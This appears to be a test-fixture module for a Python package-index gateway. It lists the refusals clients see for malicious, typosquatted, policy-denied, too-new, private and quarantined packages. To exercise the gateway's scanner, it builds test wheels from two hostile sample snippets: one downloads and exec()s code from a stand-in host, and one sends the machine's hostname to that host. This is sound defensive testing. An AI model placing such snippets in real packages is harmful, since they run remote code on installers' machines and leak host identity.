"""The refusals that every client is led to, and what an index has to list for that."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

from tests.support.distributions import Built, make_wheel
from tests.support.upstream_server import Listed

POLICY = """\
[age]
minimum = "3d"
[private]
names = ["billing-demo"]
reason = "ours; see the handbook"
[[deny]]
project = "denied-demo"
reason = "use the other one"
"""
_HONEST = "x = 1\n"
_STAGE = 'import urllib.request\nexec(urllib.request.urlopen("http://c.example.invalid/a").read())\n'
_BEACON = (
    'import socket, urllib.request\nurllib.request.urlopen("http://c.example.invalid/?h=" + socket.gethostname())\n'
)


def _wheel(name: str, version: str, source: str = _HONEST) -> Built:
    return make_wheel(name, version, {f"{name.replace('-', '_')}/__init__.py": source})


@dataclass(frozen=True, slots=True, kw_only=True)
class Case:
    """A refusal. ``text`` is what a person must read, whichever client they use."""

    title: str
    requirement: str
    built: Built
    """What a lock file of an earlier day holds of it."""
    text: str
    about: str
    silent: str = ""
    """A client that looks only for what its lock file names, finds no such thing, and says no more than that."""
    pending: bool = False
    """Asked of a gateway that has not inspected anything yet."""


CASES = (
    Case(
        title="Every release is malicious",
        requirement="evil-demo",
        built=_wheel("evil-demo", "1.0", _STAGE),
        text="blocked: second-stage in evil_demo/__init__.py:2: code fetched from http://c.example.invalid/a",
        about="The page lists its files as they are, so that every client asks for one and is told.",
    ),
    Case(
        title="The pinned release is malicious",
        requirement="half-demo==2.0",
        built=_wheel("half-demo", "2.0", _STAGE),
        text="blocked: second-stage in half_demo/__init__.py:2: code fetched from http://c.example.invalid/a",
        about="Whoever pins it, in a requirement or a lock file, is told; whoever does not is given the older one.",
    ),
    Case(
        title="Held for a person",
        requirement="held-demo==1.0",
        built=_wheel("held-demo", "1.0", _BEACON),
        text="quarantined: beacon in held_demo/__init__.py:2: host or user name is sent to http://c.example.invalid/",
        about="A reviewer may release it; the next request is then served.",
    ),
    Case(
        title="A new project whose name could be taken for a popular one's",
        requirement="reqeusts",
        built=_wheel("reqeusts", "1.0"),
        text="quarantined: look-alike: the name reqeusts could be taken for requests (transposition)",
        about="A project that has been there for longer is given, unless the policy says otherwise.",
    ),
    Case(
        title="Refused by the policy",
        requirement="denied-demo==1.0",
        built=_wheel("denied-demo", "1.0"),
        text="blocked: denied-demo 1.0 is not wanted here: use the other one",
        about="The policy's own words.",
    ),
    Case(
        title="Too young",
        requirement="young-demo==1.0",
        built=_wheel("young-demo", "1.0"),
        text="quarantined: young-demo 1.0 was published 1 day ago; releases wait 3 days, this one until",
        about="By the upstream's time of upload.",
    ),
    Case(
        title="A private name that is not published here yet",
        requirement="billing-demo",
        built=_wheel("billing-demo", "1.0"),
        text="blocked: billing-demo is a private name: ours; see the handbook; publish it here first",
        about="The upstream is never asked. Installers are given a page with one entry, whose refusal says why; Poetry "
        "looks only for what its lock file names, and says that there is no such file.",
        silent="Poetry install",
    ),
    Case(
        title="Put in quarantine by its own index",
        requirement="gone-demo",
        built=_wheel("gone-demo", "1.0"),
        text="blocked: gone-demo is in quarantine at its index, which offers no file of it: reported as malware",
        about="PEP 792; whatever was kept of it is refused as well. As above, Poetry finds no file to ask for.",
        silent="Poetry install",
    ),
    Case(
        title="Not inspected yet",
        requirement="demo==1.0",
        built=_wheel("demo", "1.0"),
        text="inspection of demo-1.0-py3-none-any.whl pending, try again in 5 seconds",
        about="Only where an inspection takes longer than 90 seconds; until then the clients wait and ask again.",
        pending=True,
    ),
)


def listed() -> list[Listed]:
    """What the upstream lists: an old release of each case, but for two whose dates matter."""
    now = datetime.now(UTC)
    dates = {"young-demo": now - timedelta(hours=30), "reqeusts": now - timedelta(days=10, hours=1)}
    built = [*(case.built for case in CASES if not case.pending), _wheel("half-demo", "1.0")]
    return [
        Listed(built=one, upload_time=f"{dates[one.project]:%Y-%m-%dT%H:%M:%S.000000Z}")
        if one.project in dates
        else Listed(built=one)
        for one in built
    ]
